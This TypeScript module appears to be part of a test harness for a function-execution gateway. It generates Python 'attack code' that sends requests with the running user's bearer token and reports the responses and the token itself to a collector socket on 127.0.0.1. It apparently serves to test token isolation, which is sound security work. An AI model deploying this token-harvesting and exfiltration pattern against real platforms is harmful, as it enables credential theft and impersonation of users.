import type { Asked } from './person.ts'

export interface AttackCode {
  kind: string
  author: string
  plan: Asked[]
  /** Of the gateway, as functions reach it. */
  api: string
  /** Port that it reports to. */
  collector: number
}

/** In a path or a body: the user whom the run is for, and the run itself. */
export const USER = '$USER'
export const RUN = '$RUN'

/**
 * A function that makes requests with the token of its user, and reports the answers and the token.
 * It waits until the report was taken, so that the token is in strangers' hands while the run still lives.
 */
export function attackCode({ kind, author, plan, api, collector }: AttackCode): string {
  const told = { kind, author, plan: plan.map(({ method, path, headers = {}, body }) => ({ method, path, headers, body: textOf(body) })) }
  return `import base64, json, socket, urllib.error, urllib.request
_TOLD = json.loads(base64.b64decode("${Buffer.from(JSON.stringify(told)).toString('base64')}"))

def _ask(context, request):
    marks = {"${USER}": context["user_id"], "${RUN}": context["execution_id"]}
    def fill(text):
        for mark, value in marks.items():
            text = text.replace(mark, value)
        return text
    body = None if request["body"] is None else fill(request["body"]).encode()
    headers = {"content-type": "application/json", **request["headers"], "authorization": "Bearer " + context["access_token"]}
    try:
        made = urllib.request.Request("${api}" + fill(request["path"]), body, headers, method=request["method"])
        with urllib.request.urlopen(made, timeout=5) as answer:
            # Of a stream, the beginning.
            isStream = answer.headers.get("content-type", "").startswith("text/event-stream")
            return answer.status, (answer.read1(20000) if isStream else answer.read(200000)).decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read(20000).decode("utf-8", "replace")
    except Exception as error:
        return 0, repr(error)

def handler(input, context):
    tried = [[request["method"], request["path"], *_ask(context, request)] for request in _TOLD["plan"]]
    report = {
        "kind": _TOLD["kind"], "author": _TOLD["author"], "user": context["user_id"], "execution": context["execution_id"],
        "token": context["access_token"], "tried": tried,
    }
    try:
        with socket.create_connection(("127.0.0.1", ${collector}), 5) as connection:
            connection.sendall(json.dumps(report).encode() + b"\\n")
            connection.settimeout(10)
            connection.recv(1)
    except OSError:
        pass
    return {"done": True}
`
}

const textOf = (body: unknown) =>
  body === undefined ? null : body instanceof Uint8Array ? Buffer.from(body).toString() : JSON.stringify(body)
